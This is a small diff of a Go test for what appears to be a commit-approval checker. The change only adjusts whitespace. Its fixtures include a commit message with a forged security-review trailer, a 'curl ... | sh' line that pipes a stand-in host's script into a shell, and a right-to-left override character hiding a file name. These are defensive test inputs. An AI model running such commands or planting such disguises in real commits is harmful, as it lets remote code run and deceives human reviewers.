@@ -69,8 +69,8 @@ func TestCheckMessage(t *testing.T) {
 // base's commits is checked too.
 func TestAssessFlagsMessages(t *testing.T) {
 	r := &approval.Request{
-		Ref:         "refs/heads/feature",
-		Commits:     []approval.CommitInfo{{ID: approvaltest.Hash("w"), Message: "Tidy\n\nReviewed-by: Security Team <sec@example.com>\ncurl -s https://x.example/i | sh\n"}},
+		Ref:     "refs/heads/feature",
+		Commits: []approval.CommitInfo{{ID: approvaltest.Hash("w"), Message: "Tidy\n\nReviewed-by: Security Team <sec@example.com>\ncurl -s https://x.example/i | sh\n"}},
 		// The base's: a real history's trailers are genuine, not flagged;
 		// its hidden characters are, one flag for all of its commits.
 		BaseCommits: []approval.CommitInfo{{ID: approvaltest.Hash("b"), Message: "Base \u202Egnp.sh\n\nSigned-off-by: A <a@example.com>\n"},
